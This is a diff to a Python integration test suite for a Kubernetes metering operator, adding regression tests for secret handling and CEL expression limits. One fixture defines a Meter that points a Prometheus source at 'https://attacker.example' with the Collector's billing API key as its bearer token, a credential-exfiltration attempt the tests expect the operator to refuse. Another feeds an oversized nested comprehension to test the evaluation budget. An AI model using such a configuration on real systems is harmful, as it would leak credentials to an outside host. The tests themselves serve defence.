@@ -229,6 +229,7 @@ OUTPUT = {"type": "openmeter", "url": "http://om"}
 PLAIN_COLLECTOR = ("Collector", "c", {"output": OUTPUT})
 CPU_METER: dict[str, Any] = {"eventType": "e", "unit": "u", "source": {"allocation": {"resource": "cpu"}}}
 
+LONG_LIST = "[" + ",".join(["1"] * 200) + "]"
 PROBLEMS: list[tuple[str, str, str, str, str, str]] = [
     # (case, manifests, kind, name, reason, message fragment)
     (
@@ -285,6 +286,51 @@ PROBLEMS: list[tuple[str, str, str, str, str, str]] = [
         "InvalidExpression",
         "uses unknown name 'evnt'; it can use only event",
     ),
+    (
+        # Issue #14: the Meter's agents would send the Collector's billing API key to the Meter's URL.
+        "meter-reads-the-billing-key",
+        manifests(
+            (
+                "Collector",
+                "c",
+                {"output": {**OUTPUT, "credentialsSecretRef": {"name": "om", "key": "token"}}},
+            ),
+            (
+                "Meter",
+                "m",
+                {
+                    **CPU_METER,
+                    "source": {
+                        "prometheus": {
+                            "url": "https://attacker.example",
+                            "query": "up",
+                            "bearerTokenSecretRef": {"name": "om", "key": "token"},
+                        }
+                    },
+                },
+            ),
+            ("Pipeline", "p", {"collectorRef": "c", "meters": ["m"]}),
+        ),
+        "meter",
+        "m",
+        "ForbiddenSecret",
+        'names Secret "om", which holds Collector "c"\'s billing API key',
+    ),
+    (
+        # Two comprehensions pass the API server's count; 200 x 200 iterations do not pass the budget.
+        "cel-over-the-step-budget",
+        manifests(
+            (
+                "Meter",
+                "m",
+                {**CPU_METER, "dimensions": {"x": f"{LONG_LIST}.all(a, {LONG_LIST}.all(b, a == b))"}},
+            )
+        ),
+        "meter",
+        "m",
+        "InvalidExpression",
+        "spec.dimensions.x is over the CEL cost budget: stopped after 10000 evaluation steps",
+    ),
 ]
 
 
@@ -315,6 +361,42 @@ def test_what_only_the_operator_knows_is_degraded_with_an_event(
 
     wait_for(warned, timeout_s=30, what=f"a Warning Event {reason}")
     assert operator.healthy()
+
+
+def test_a_refused_meter_secret_is_not_mounted_into_the_agents(
+    cluster: ControlPlane, operator: OperatorProcess, namespace: str
+) -> None:
+    case = next(problem for problem in PROBLEMS if problem[0] == "meter-reads-the-billing-key")
+    apply(cluster, namespace, case[1])
+    wait_condition(cluster, namespace, "meter", "m", "Degraded", "ForbiddenSecret")
+    daemonset = wait_for(
+        lambda: get(cluster, "-n", namespace, "daemonset", "c-agent"), timeout_s=60, what="the agents"
+    )
+    volumes = daemonset["spec"]["template"]["spec"]["volumes"]
+    mounted = {v["secret"]["secretName"] for v in volumes if "secret" in v}
+    assert mounted == {"c-ingest-token"}, "only the ingest token; never the billing key"
+    config = yaml.safe_load(get(cluster, "-n", namespace, "configmap", "c-config")["data"]["agent.yaml"])
+    assert config["meters"] == []
+
+
+def test_the_generated_ingest_token_is_kept_across_resyncs(
+    cluster: ControlPlane, operator: OperatorProcess, namespace: str
+) -> None:
+    apply(cluster, namespace, manifests(PLAIN_COLLECTOR))
+    secret = wait_for(
+        lambda: get(cluster, "-n", namespace, "secret", "c-ingest-token"), timeout_s=60, what="the token"
+    )
+    collector = get(cluster, "-n", namespace, "collector", "c")
+    assert secret["metadata"]["ownerReferences"][0]["uid"] == collector["metadata"]["uid"]
+    resyncs = operator.log_text().count(f"namespace {namespace} reconciled")
+    wait_for(
+        lambda: operator.log_text().count(f"namespace {namespace} reconciled") >= resyncs + 2,
+        timeout_s=60,
+        what="two more reconciliations (resync every 5 s)",
+    )
+    again = get(cluster, "-n", namespace, "secret", "c-ingest-token")
+    assert again["metadata"]["resourceVersion"] == secret["metadata"]["resourceVersion"]
+    assert again["data"] == secret["data"]
 
 
 def test_a_missing_secret_recovers_when_created(
